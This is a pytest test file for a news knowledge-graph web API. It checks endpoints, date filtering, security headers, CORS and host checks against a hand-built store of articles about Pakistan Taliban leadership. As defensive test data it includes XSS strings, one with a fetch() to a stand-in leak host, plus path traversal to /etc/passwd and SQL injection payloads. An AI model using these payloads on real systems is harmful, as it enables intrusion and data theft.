"""Web API: every endpoint on a hand-built store, bad parameters, security headers, hostile text.

The store is built by hand (no model) so the expectations are exact: Baitullah Mehsud leads the
Pakistan Taliban until 2009-08, Hakimullah Mehsud from 2009-08, and one article carries
<script>/<iframe> markup in its title, publisher, text and an entity name.
"""

from __future__ import annotations

from pathlib import Path

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from newsgraph.errors import NewsgraphError  # noqa: E402
from newsgraph.extract.kb import KBEntry, KnowledgeBase  # noqa: E402
from newsgraph.records import (  # noqa: E402
    Article,
    ArticleResult,
    Event,
    Evidence,
    LocalEntity,
    Mention,
    Quote,
    Relation,
    Role,
    Timex,
)
from newsgraph.store import Store  # noqa: E402
from newsgraph.web.api import MAX_LIMIT, _is_loopback, create_app, serve  # noqa: E402

XSS_NAME = '<img src=x onerror="window.__xss=1">'
XSS_SCRIPT = "<script>window.__xss=2;fetch('http://198.51.100.7/leak')</script>"
XSS_IFRAME = '<iframe src="http://198.51.100.7/frame" onload="window.__xss=3"></iframe>'

TEXT1 = ("Baitullah Mehsud, the leader of the Pakistan Taliban, is based in Waziristan. "
         "Officials said the army would move against him.")
TEXT2 = ("Hakimullah Mehsud took charge of the Pakistan Taliban in August 2009, after a missile strike "
         "killed Baitullah Mehsud in Waziristan. Analysts speculated that the Haqqani network helped him.")
TEXT3 = (f"A reader sent {XSS_SCRIPT} and {XSS_IFRAME} in a comment. "
         f"The commenter {XSS_NAME} is said to be a member of the Pakistan Taliban.")


def _kb() -> KnowledgeBase:
    kb = KnowledgeBase()
    kb.add(KBEntry("ttp", "Tehrik-e-Taliban Pakistan", "ARMED_GROUP", ("TTP", "Pakistan Taliban")))
    kb.add(KBEntry("baitullah", "Baitullah Mehsud", "PERSON", ("Baitullah Mehsud",)))
    kb.add(KBEntry("hakimullah", "Hakimullah Mehsud", "PERSON", ("Hakimullah Mehsud",)))
    kb.add(KBEntry("waziristan", "Waziristan", "LOCATION", ("Waziristan",)))
    return kb


def _build(text: str, aid: str, ents: list[tuple[str, str, str, str | None]], *, published: str | None = None,
           publisher: str | None = None, title: str | None = None,
           published_range: tuple[str, str] | None = None) -> ArticleResult:
    """One article by hand; each entity is (name, type, surface form in text, kb_id)."""
    article = Article(id=aid, source=f"{aid}.txt", raw_text=text, text=text, title=title, publisher=publisher,
                      published=published, published_range=published_range, offsets=((0, 0, len(text)),))
    cut = text.index(". ") + 1
    result = ArticleResult(article=article, sentences=[(0, cut), (cut + 1, len(text))])
    for idx, (name, etype, form, kb_id) in enumerate(ents):
        start = text.index(form)
        sentence = 0 if start < cut else 1
        result.mentions.append(Mention(start, start + len(form), form, etype, sentence, idx, "ner", kb_id))
        result.entities.append(LocalEntity(name=name, type=etype, kb_id=kb_id, aliases=[form],
                                           mentions=[len(result.mentions) - 1]))
    return result


def _sentence(result: ArticleResult, i: int) -> Evidence:
    s, e = result.sentences[i]
    return Evidence(s, e, result.article.text[s:e], i)


def build_store(path: Path) -> Path:
    """The deterministic store the API and browser tests share."""
    kb = _kb()
    with Store(path) as store:
        r1 = _build(TEXT1, "cbs1", [("Baitullah Mehsud", "PERSON", "Baitullah Mehsud", "baitullah"),
                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp"),
                                    ("Waziristan", "LOCATION", "Waziristan", "waziristan")],
                    published="2009-06-25", publisher="CBS News", title="Pakistan Gearing Up To Go After Mehsud")
        r1.relations.append(Relation("based_in", 0, 2, (_sentence(r1, 0),)))
        r1.relations.append(Relation("leads", 0, 1, (_sentence(r1, 0),)))  # "the leader of": no start given
        r1.quotes.append(Quote("Officials", "said", "the army would move against him", TEXT1.index("the army"),
                               len(TEXT1) - 1, None, 1))
        store.save(r1, kb)

        r2 = _build(TEXT2, "npr2", [("Hakimullah Mehsud", "PERSON", "Hakimullah Mehsud", "hakimullah"),
                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp"),
                                    ("Baitullah Mehsud", "PERSON", "Baitullah Mehsud", "baitullah"),
                                    ("Waziristan", "LOCATION", "Waziristan", "waziristan"),
                                    ("Haqqani network", "ARMED_GROUP", "Haqqani network", None)],
                    publisher="NPR", title="Militant Groups Seen Collaborating Against U.S.",
                    published_range=("2009-12-30", "2010-02-02"))
        ev = _sentence(r2, 0)
        r2.relations.append(Relation("leads", 0, 1, (ev,), valid_from="2009-08"))
        r2.relations.append(Relation("leads", 2, 1, (ev,), valid_to="2009-08"))
        r2.relations.append(Relation("allied_with", 4, 0, (_sentence(r2, 1),), modality="speculated",
                                     attributed_to="Analysts"))
        when = TEXT2.index("August 2009")
        r2.timexes.append(Timex(when, when + 11, "August 2009", "2009-08", "month", "2009-12-30", 0))
        trig = TEXT2.index("strike")
        r2.events.append(Event("ASSAULT", "missile_strike", Evidence(trig, trig + 6, "strike", 0),
                               roles=(Role("victim", "Baitullah Mehsud", TEXT2.index("Baitullah"),
                                           TEXT2.index("Baitullah") + 16, 2),),
                               date=r2.timexes[0], location=3, killed=1, evidence=(ev,)))
        store.save(r2, kb)

        r3 = _build(TEXT3, "xss3", [(XSS_NAME, "PERSON", XSS_NAME, None),
                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp")],
                    published="2009-11-01", publisher="<b>Evil</b> Daily", title=f"{XSS_SCRIPT} headline")
        r3.relations.append(Relation("member_of", 0, 1, (_sentence(r3, 1),), modality="reported"))
        store.save(r3, kb)
    return path


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_store(tmp_path_factory.mktemp("web") / "web.db")


@pytest.fixture(scope="module")
def client(store_path: Path) -> TestClient:
    return TestClient(create_app(str(store_path)))


def _id(client: TestClient, name: str) -> int:
    items = client.get("/api/entities", params={"q": name}).json()["items"]
    return next(e["id"] for e in items if e["name"] == name)


def _edges(net: dict) -> set[tuple[str, str, str]]:
    return {(e["subject_name"], e["type"], e["object_name"]) for e in net["edges"]}


LEADS_HAKIM = ("Hakimullah Mehsud", "leads", "Tehrik-e-Taliban Pakistan")
LEADS_BAIT = ("Baitullah Mehsud", "leads", "Tehrik-e-Taliban Pakistan")


@pytest.mark.parametrize(("as_of", "present", "absent"), [
    ("2009-06-30", {LEADS_BAIT}, {LEADS_HAKIM}),  # the CBS article of 2009-06-25 reported it
    ("2009-08-31", {LEADS_BAIT, LEADS_HAKIM}, set()),
    ("2010-01-31", {LEADS_HAKIM}, {LEADS_BAIT}),
    ("2010-01", {LEADS_HAKIM}, {LEADS_BAIT}),
])
def test_network_as_of(client, as_of, present, absent):
    r = client.get("/api/network", params={"as_of": as_of})
    assert r.status_code == 200
    edges = _edges(r.json())
    assert present <= edges
    assert not absent & edges


def test_network_before_the_first_report_is_empty(client):
    # Relations that give no start count from their first report, never from an unknown past
    # (Baitullah's leadership, known to end in 2009-08, once showed on any earlier date).
    net = client.get("/api/network", params={"as_of": "2009-06-24"}).json()
    assert net["edges"] == [] and net["nodes"] == []
    assert _edges(client.get("/api/network", params={"as_of": "2009-06-25"}).json()) == {
        LEADS_BAIT, ("Baitullah Mehsud", "based_in", "Waziristan")}
    # Reported on 2009-11-01 with no start: held in the world from then on, not before.
    member = ("<img src=x onerror=\"window.__xss=1\">", "member_of", "Tehrik-e-Taliban Pakistan")
    assert member not in _edges(client.get("/api/network", params={"as_of": "2009-10-31"}).json())
    assert member in _edges(client.get("/api/network", params={"as_of": "2009-11-01"}).json())


def test_network_known_as_of_and_types(client):
    # By 2009-07 only the CBS article had been published: Baitullah led, nothing of Hakimullah.
    known = _edges(client.get("/api/network", params={"known_as_of": "2009-07"}).json())
    assert known == {("Baitullah Mehsud", "based_in", "Waziristan"), LEADS_BAIT}
    only = client.get("/api/network", params={"types": "leads, allied_with"}).json()
    assert {e["type"] for e in only["edges"]} == {"leads", "allied_with"}
    node_names = {n["name"] for n in only["nodes"]}
    assert {"Hakimullah Mehsud", "Haqqani network"} <= node_names and "Waziristan" not in node_names


def test_network_edge_carries_evidence_and_modality(client):
    net = client.get("/api/network").json()
    ally = next(e for e in net["edges"] if e["type"] == "allied_with")
    assert ally["modality"] == "speculated" and ally["attributed_to"] == "Analysts"
    assert ally["evidence"][0]["article_id"] == "npr2"
    assert ally["evidence"][0]["text"].startswith("Analysts speculated")
    assert all("mentions" in n for n in net["nodes"])


def test_evidence_and_quotes_name_their_article(client):
    # Every evidence line and quote carries what the page shows of its article (publisher, date,
    # title), next to the fields it always had; a fact also names its publishers.
    ally = next(e for e in client.get("/api/network").json()["edges"] if e["type"] == "allied_with")
    ev = ally["evidence"][0]
    assert ev["article_id"] == "npr2" and ev["text"].startswith("Analysts speculated")
    assert ev["publisher"] == "NPR" and ev["title"] == "Militant Groups Seen Collaborating Against U.S."
    assert (ev["published"], ev["published_from"], ev["published_to"]) == (None, "2009-12-30", "2010-02-02")
    assert ally["publishers"] == ["NPR"]
    cbs = next(e for e in client.get("/api/network").json()["edges"] if e["evidence"][0]["article_id"] == "cbs1")
    assert cbs["evidence"][0]["published"] and "published_from" not in cbs["evidence"][0]  # a range only when dated by one
    profile = client.get(f"/api/entities/{_id(client, 'Baitullah Mehsud')}").json()
    assert all({"title", "publisher", "published"} <= set(ev) for r in profile["relations"] for ev in r["evidence"])
    timeline = client.get(f"/api/entities/{_id(client, 'Baitullah Mehsud')}/timeline").json()["items"]
    assert all("publisher" in ev for t in timeline for ev in t["evidence"])


SCALE_ARTICLES = 520  # more than the largest page of /api/articles (500)


@pytest.fixture(scope="module")
def scale_client(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    from ._scale_store import build_scale_store

    db = build_scale_store(tmp_path_factory.mktemp("scale") / "scale.db", articles=SCALE_ARTICLES)
    return TestClient(create_app(str(db)))


def test_evidence_past_the_first_page_of_articles(scale_client):
    # On a store of more than 500 articles the oldest ones are past the first page of
    # /api/articles, which the page once used as its lookup (and showed a bare id instead).
    first = {a["id"] for a in scale_client.get("/api/articles", params={"limit": MAX_LIMIT}).json()["items"]}
    assert len(first) == MAX_LIMIT
    rest = {a["id"]: a for a in scale_client.get(
        "/api/articles", params={"limit": MAX_LIMIT, "offset": MAX_LIMIT}).json()["items"]}
    assert len(rest) == SCALE_ARTICLES - MAX_LIMIT
    net = scale_client.get("/api/network").json()
    late = [ev for e in net["edges"] for ev in e["evidence"] if ev["article_id"] in rest]
    assert late
    for ev in late:
        art = rest[ev["article_id"]]
        assert (ev["title"], ev["publisher"], ev["published"]) == (art["title"], art["publisher"], art["published"])
    speaker = next(e for e in net["nodes"] if e["name"] == "Abdul Haqqani")
    quotes = scale_client.get(f"/api/entities/{speaker['id']}").json()["quotes"]
    late_quotes = [q for q in quotes if q["article_id"] in rest]
    assert late_quotes and all(q["publisher"] == rest[q["article_id"]]["publisher"]
                               and q["title"] == rest[q["article_id"]]["title"] for q in late_quotes)


def test_network_top_and_focus(client):
    whole = client.get("/api/network").json()
    assert whole["total_nodes"] == len(whole["nodes"]) and all("degree" in n and "community" in n for n in whole["nodes"])
    top = client.get("/api/network", params={"top": 2}).json()
    assert len(top["nodes"]) == 2 and top["total_nodes"] == len(whole["nodes"]) > 2
    assert top["nodes"][0]["name"] == "Tehrik-e-Taliban Pakistan"  # the best connected actor first
    kept = {n["id"] for n in top["nodes"]}
    assert all(e["subject"] in kept and e["object"] in kept for e in top["edges"])
    # the ego view: Haqqani network and its one ally; two steps reach the group the ally leads
    one = client.get("/api/network", params={"focus": "Haqqani network"}).json()
    assert {n["name"] for n in one["nodes"]} == {"Haqqani network", "Hakimullah Mehsud"}
    assert one["focus"] == _id(client, "Haqqani network") and one["hops"] == 1
    two = client.get("/api/network", params={"focus": "Haqqani network", "hops": 2}).json()
    assert {n["name"] for n in two["nodes"]} == {"Haqqani network", "Hakimullah Mehsud", "Tehrik-e-Taliban Pakistan"}
    capped = client.get("/api/network", params={"focus": "Haqqani network", "hops": 2, "top": 3}).json()
    assert len(capped["nodes"]) == 3 and capped["nodes"][0]["name"] == "Haqqani network"
    # communities come from every date, so an actor keeps its colour as the month changes
    by_month = [{n["id"]: n["community"] for n in client.get("/api/network", params={"as_of": m}).json()["nodes"]}
                for m in ("2009-06", "2010-01")]
    assert all(by_month[0][i] == c for i, c in by_month[1].items() if i in by_month[0])


@pytest.mark.parametrize(("url", "status", "needle"), [
    ("/api/network?top=0", 422, "top"),
    ("/api/network?hops=3", 422, "hops"),
    ("/api/network?focus=Nobody%20At%20All", 404, "no entity"),
    ("/api/network?as_of=2009-13", 400, "malformed date"),
    ("/api/network?as_of=June%202009", 400, "malformed date"),
    ("/api/network?known_as_of=2009-02-30", 400, "no such day"),
    ("/api/path?a=Baitullah%20Mehsud&b=Waziristan&as_of=yesterday", 400, "malformed date"),
    ("/api/entities?limit=100000", 422, "limit"),
    (f"/api/entities?limit={MAX_LIMIT + 1}", 422, "limit"),
    ("/api/entities?limit=0", 422, "limit"),
    ("/api/entities?offset=-1", 422, "offset"),
    ("/api/entities?limit=ten", 422, "limit"),
    ("/api/events?limit=9999", 422, "limit"),
    ("/api/articles?limit=9999", 422, "limit"),
    ("/api/entities?type=DRAGON", 400, "unknown entity type"),
    ("/api/entities/999999", 404, "no entity"),
    ("/api/entities/Nobody%20At%20All", 404, "no entity"),
    ("/api/entities/999999/timeline", 404, "no entity"),
    ("/api/events?entity=Nobody", 404, "no entity"),
    ("/api/path?a=Nobody&b=Baitullah%20Mehsud", 404, "no entity"),
    ("/api/path?a=Baitullah%20Mehsud", 422, "b"),
    ("/api/articles/does-not-exist", 404, "no article"),
    ("/api/no-such-endpoint", 404, "no endpoint"),
    # ids no row can have: once HTTP 500 (an overflow in the database driver)
    (f"/api/entities/{2**63}", 404, "no entity with id"),
    (f"/api/entities/{2**63}/timeline", 404, "no entity with id"),
    (f"/api/entities/{10**40}", 404, "no entity with id"),
    (f"/api/path?a={2**63}&b=Waziristan", 404, "no entity with id"),
    (f"/api/path?a=Waziristan&b={2**64}", 404, "no entity with id"),
    (f"/api/events?entity={2**63}", 404, "no entity with id"),
    ("/api/entities/" + "9" * 5000, 422, "at most 200 characters"),
    ("/api/entities/" + "9" * 5000 + "/timeline", 422, "at most 200 characters"),
    ("/api/articles/" + "9" * 5000, 422, "at most 200 characters"),
    ("/api/entities/%C2%B2", 404, "no entity named"),  # '²' is a digit to str.isdigit, not to int()
    ("/api/entities/0", 404, "no entity with id"),
])
def test_bad_requests_are_clear_json(client, url, status, needle):
    r = client.get(url)
    assert r.status_code == status
    assert r.headers["content-type"].startswith("application/json")
    assert needle in r.json()["error"]
    assert "\n" not in r.json()["error"] and len(r.json()["error"]) <= 300


@pytest.mark.parametrize("url", ["/api/network?as_of={v}", "/api/network?known_as_of={v}",
                                 "/api/path?a=Waziristan&b=Waziristan&as_of={v}", "/api/entities?type={v}",
                                 "/api/entities/{v}", "/api/articles/{v}"])
def test_echoes_are_capped(client, url):
    value = "x" * 180 + "END"
    r = client.get(url.format(v=value))
    assert 400 <= r.status_code < 500
    error = r.json()["error"]
    assert "END" not in error and "x" * 81 not in error, error  # names the value, never sends it all back


@pytest.mark.parametrize(("q", "names"), [
    ("%", []), ("\\", []), ("Taliban%", []), ("Pakistan_Taliban", []), ("%Taliban", []),
    ("_", [XSS_NAME]), ("__xss", [XSS_NAME]),  # the one name with underscores in it, not every name
    ("Taliban", ["Tehrik-e-Taliban Pakistan"]),
])
def test_search_wildcards_are_literal(client, q, names):
    items = client.get("/api/entities", params={"q": q}).json()["items"]
    assert [e["name"] for e in items] == names


def test_stats_and_entities(client):
    stats = client.get("/api/stats").json()
    assert stats["articles"] == 3 and stats["relations"] == 6
    assert stats["top_entities"][0]["name"] == "Tehrik-e-Taliban Pakistan"
    people = client.get("/api/entities", params={"type": "person", "limit": 2}).json()
    assert len(people["items"]) == 2 and all(e["type"] == "PERSON" for e in people["items"])
    page2 = client.get("/api/entities", params={"type": "PERSON", "limit": 2, "offset": 2}).json()["items"]
    assert not {e["id"] for e in page2} & {e["id"] for e in people["items"]}
    found = client.get("/api/entities", params={"q": "Taliban"}).json()["items"]
    assert [e["name"] for e in found] == ["Tehrik-e-Taliban Pakistan"]


def test_profile_timeline_events_path(client):
    bid = _id(client, "Baitullah Mehsud")
    profile = client.get(f"/api/entities/{bid}").json()
    assert profile["name"] == "Baitullah Mehsud" and profile["type"] == "PERSON"
    assert {r["type"] for r in profile["relations"]} == {"based_in", "leads"}
    assert client.get("/api/entities/Baitullah%20Mehsud").json()["id"] == bid  # names work too
    items = client.get(f"/api/entities/{bid}/timeline").json()["items"]
    assert items[0]["kind"] == "event" and items[0]["summary"].startswith("missile strike")
    assert any(i["kind"] == "relation_end" and "leads" in i["summary"] and i["date"] == "2009-08" for i in items)
    assert [i["date"] for i in items] == sorted(i["date"] for i in items)
    events = client.get("/api/events", params={"entity": "Waziristan"}).json()["items"]
    assert [(e["subtype"], e["killed"], e["location_name"]) for e in events] == [("missile_strike", 1, "Waziristan")]
    paths = client.get("/api/path", params={"a": "Hakimullah Mehsud", "b": "Baitullah Mehsud"}).json()
    assert [[h["type"] for h in p] for p in paths["paths"]] == [["leads", "leads"]]
    # On 2010-01 Baitullah no longer leads: no path through the group.
    later = client.get("/api/path", params={"a": "Hakimullah Mehsud", "b": "Baitullah Mehsud", "as_of": "2010-01"})
    assert later.json()["paths"] == []


def test_article_view_has_spans(client):
    art = client.get("/api/articles/npr2").json()
    text = art["text"]
    assert art["published_range"] == ["2009-12-30", "2010-02-02"] and art["publisher"] == "NPR"
    assert {text[m["start"]:m["end"]] for m in art["mentions"]} >= {"Hakimullah Mehsud", "Haqqani network"}
    assert all(m["entity_name"] for m in art["mentions"])
    kinds = {(f["kind"], text[f["start"]:f["end"]][:10]) for f in art["facts"]}
    assert ("relation", "Hakimullah") in kinds and ("event", "Hakimullah") in kinds
    assert art["sentences"][0][0] == 0
    listing = client.get("/api/articles").json()["items"]
    assert [a["id"] for a in listing] == ["npr2", "xss3", "cbs1"]


def test_months_span_the_data(client):
    months = client.get("/api/months").json()
    assert months["first"] == "2009-06" and months["last"] == "2010-02"
    assert months["months"][:3] == ["2009-06", "2009-07", "2009-08"] and len(months["months"]) == 9


def test_months_of_a_long_span_keep_the_recent_end():
    """A date centuries back (MUC-4's "at approximately 1330", a clock time, read as a year) must
    not push the months the news was published in off the slider."""
    from newsgraph.web.api import MAX_MONTHS, _months_between

    span = _months_between("1330-01", "1990-01")
    assert len(span) == MAX_MONTHS and span[-1] == "1990-01" and span[0] == "1940-02"
    assert span == sorted(span) and _months_between("1989-11", "1990-02") == ["1989-11", "1989-12", "1990-01", "1990-02"]


def test_places_and_conflicts(client):
    places = client.get("/api/places").json()
    waz = next(p for p in places["places"] if p["name"] == "Waziristan")
    assert waz["kind"] == "region" and waz["country"] == "PK" and 32 < waz["lat"] < 34 and 69 < waz["lon"] < 71
    assert waz["isonumeric"] is None  # only a country shades its shape on the basemap
    assert [e["subtype"] for e in waz["events"]] == ["missile_strike"]
    assert client.get("/api/conflicts").json() == {"items": []}


def test_security_headers(client):
    for url in ("/", "/api/stats", "/api/entities/999999", "/static/app.js"):
        r = client.get(url)
        csp = r.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "script-src 'self';" in csp and "unsafe-inline" not in csp
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
    assert "access-control-allow-origin" not in client.get("/api/stats", headers={"Origin": "http://evil.test"}).headers


def test_cors_only_when_asked(store_path):
    open_client = TestClient(create_app(str(store_path), allow_origins=["http://notebook.test"]))
    r = open_client.get("/api/stats", headers={"Origin": "http://notebook.test"})
    assert r.headers["access-control-allow-origin"] == "http://notebook.test"
    assert "access-control-allow-origin" not in open_client.get("/api/stats", headers={"Origin": "http://x.test"}).headers


def test_host_header_checked_when_serving_locally(store_path):
    local = TestClient(create_app(str(store_path), allowed_hosts=["127.0.0.1", "localhost"]),
                       base_url="http://127.0.0.1")
    assert local.get("/api/stats").status_code == 200
    assert local.get("/api/stats", headers={"Host": "attacker.test"}).status_code == 400


def test_hostile_text_comes_back_as_plain_json_strings(client):
    art = client.get("/api/articles/xss3")
    assert art.headers["content-type"].startswith("application/json")
    body = art.json()
    assert XSS_SCRIPT in body["text"] and XSS_IFRAME in body["text"]
    assert body["title"] == f"{XSS_SCRIPT} headline" and body["publisher"] == "<b>Evil</b> Daily"
    names = [e["name"] for e in client.get("/api/entities", params={"type": "PERSON"}).json()["items"]]
    assert XSS_NAME in names
    net = client.get("/api/network").json()
    assert any(e["subject_name"] == XSS_NAME for e in net["edges"])


def test_page_and_docs(client):
    page = client.get("/")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert '<script type="module" src="/static/app.js">' in page.text
    assert "<script>" not in page.text  # no inline script anywhere in the page
    schema = client.get("/openapi.json").json()
    for path in ("/api/stats", "/api/entities", "/api/entities/{entity}", "/api/entities/{entity}/timeline",
                 "/api/network", "/api/path", "/api/events", "/api/conflicts", "/api/articles/{article_id}",
                 "/api/months", "/api/places"):
        assert path in schema["paths"], path
    assert client.get("/docs").status_code == 200


def test_docs_use_only_local_assets(client):
    from html.parser import HTMLParser

    from newsgraph.web.vendor import FILES

    class Refs(HTMLParser):
        found: list[str] = []

        def handle_starttag(self, tag, attrs):
            self.found += [v for k, v in attrs if k in ("src", "href") and v]

    r = client.get("/docs")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    csp = r.headers["content-security-policy"]
    assert "script-src 'self';" in csp and "unsafe-inline" not in csp and "http" not in csp
    refs = Refs()
    refs.feed(r.text)
    assert "<script>" not in r.text and "SwaggerUIBundle" not in r.text  # its set-up is a file
    static = Path(__file__).resolve().parents[1] / "src" / "newsgraph" / "web" / "static"
    local = [u for u in refs.found if u != "data:,"]
    assert local and all(u.startswith("/static/") for u in local), refs.found
    for url in local:  # ours in static/, third-party ones from npm via vendor.FILES
        name = url.removeprefix("/static/")
        assert (static / name).exists() or name.removeprefix("vendor/") in FILES.values(), url
    assert client.get("/static/docs.js").status_code == 200


def test_static_has_no_innerhtml():
    static = Path(__file__).resolve().parents[1] / "src" / "newsgraph" / "web" / "static"
    for js in static.glob("*.js"):
        source = js.read_text(encoding="utf-8")
        assert "innerHTML" not in source.replace("no innerHTML", "") and "insertAdjacentHTML" not in source, js.name


def test_store_is_read_only(store_path):
    app_client = TestClient(create_app(str(store_path)))
    assert app_client.post("/api/stats").status_code == 405
    # The app opens the store the same way, and such a connection refuses writes.
    with Store(store_path, readonly=True) as store, pytest.raises(Exception, match="readonly"):
        store.conn.execute("DELETE FROM articles")


@pytest.mark.parametrize(("host", "loopback"), [
    ("127.0.0.1", True), ("localhost", True), ("::1", True), ("[::1]", True), ("127.0.0.2", True),
    ("0.0.0.0", False), ("192.168.1.10", False), ("example.org", False), ("::", False),
])
def test_loopback_detection(host, loopback):
    assert _is_loopback(host) is loopback


def test_serve_refuses_public_bind(store_path):
    with pytest.raises(NewsgraphError, match="refusing to listen on 0.0.0.0"):
        serve(str(store_path), host="0.0.0.0")


def test_missing_store_fails_at_start(tmp_path):
    with pytest.raises(NewsgraphError, match="no such store"):
        create_app(str(tmp_path / "absent.db"))


# -- hostile parameters: path traversal and SQL injection never reach files or SQL -----------------
HOSTILE = ["../../../../etc/passwd", "..%2F..%2Fpyproject.toml", "1; DROP TABLE entities; --", "' OR '1'='1",
           "1 UNION SELECT raw_text FROM articles", "%00", "<script>alert(1)</script>"]


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("url", [
    "/api/entities/{p}", "/api/entities/{p}/timeline", "/api/articles/{p}", "/api/network?as_of={p}",
    "/api/network?known_as_of={p}", "/api/path?a={p}&b=1", "/api/path?a=1&b={p}", "/api/events?entity={p}",
    "/api/entities?limit={p}", "/api/entities?type={p}", "/static/{p}",
])
def test_hostile_parameters_are_refused(client, url, payload):
    r = client.get(url.format(p=payload))
    assert 400 <= r.status_code < 500, (url, payload, r.status_code)
    assert "root:" not in r.text and "[project]" not in r.text


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_search_text_is_only_a_search(client, payload):
    before = client.get("/api/stats").json()
    r = client.get("/api/entities", params={"q": payload})
    assert r.status_code == 200
    assert r.json()["items"] == []  # no entity is named like that: the text was not run as SQL
    assert client.get("/api/stats").json() == before  # nothing dropped, nothing changed


# -- what a reader sees: one edge per thing said, words instead of identifiers ---------------------
KILL_TEXT = ("A U.S. missile strike killed Baitullah Mehsud in Waziristan in the week of 22 June 2009. "
             "The Pakistan Taliban carried out a suicide attack in Waziristan.")


def _killing_store(path: Path) -> Path:
    kb = _kb()
    kb.add(KBEntry("us", "United States", "GOVERNMENT", ("U.S.",)))
    with Store(path) as store:
        r = _build(KILL_TEXT, "kill1", [("United States", "GOVERNMENT", "U.S.", "us"),
                                        ("Baitullah Mehsud", "PERSON", "Baitullah Mehsud", "baitullah"),
                                        ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp"),
                                        ("Waziristan", "LOCATION", "Waziristan", "waziristan")],
                   published="2009-06-30", publisher="CBS News", title="Strike")
        ev, ev2 = _sentence(r, 0), _sentence(r, 1)
        trig = KILL_TEXT.index("suicide attack")
        r.events.append(Event("ATTACK", "suicide_attack", Evidence(trig, trig + 14, "suicide attack", 1),
                              location=3, evidence=(ev2,)))
        r.relations += [Relation("killed", 0, 1, (ev,), modality="reported"),
                        Relation("killed_by", 1, 0, (ev,), modality="reported"),
                        Relation("rival_of", 1, 2, (ev,), valid_to="2009-W26"),
                        Relation("responsible_for", 2, 0, (ev2,), object_is_event=True)]
        store.save(r, kb)
    return path


@pytest.fixture(scope="module")
def killing(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    return TestClient(create_app(str(_killing_store(tmp_path_factory.mktemp("kill") / "kill.db"))))


def test_inverse_relations_are_one_edge(killing):
    net = killing.get("/api/network").json()
    kills = [e for e in net["edges"] if e["type"] in ("killed", "killed_by")]
    assert [(e["subject_name"], e["type"], e["object_name"]) for e in kills] == [
        ("United States", "killed", "Baitullah Mehsud")]
    assert len(kills[0]["claims"]) == 2 and len(kills[0]["evidence"]) == 1  # both claims, one sentence
    profile = killing.get("/api/entities/Baitullah%20Mehsud").json()
    assert [r["type"] for r in profile["relations"] if r["type"].startswith("killed")] == ["killed"]
    facts = killing.get("/api/articles/kill1").json()["facts"]
    assert sum(1 for f in facts if f["kind"] == "relation" and f["relation"]["type"].startswith("killed")) == 1


def test_event_objects_and_timeline_read_as_words(killing):
    profile = killing.get("/api/entities/Tehrik-e-Taliban%20Pakistan").json()
    blame = next(r for r in profile["relations"] if r["type"] == "responsible_for")
    assert blame["object_name"] == "suicide attack" and blame["object"].startswith("ev")
    items = killing.get("/api/entities/Baitullah%20Mehsud/timeline").json()["items"]
    end = next(i for i in items if i["kind"] == "relation_end")
    assert end["date"] == "2009-W26" and end["relation"]["type"] == "rival_of"  # the page words both
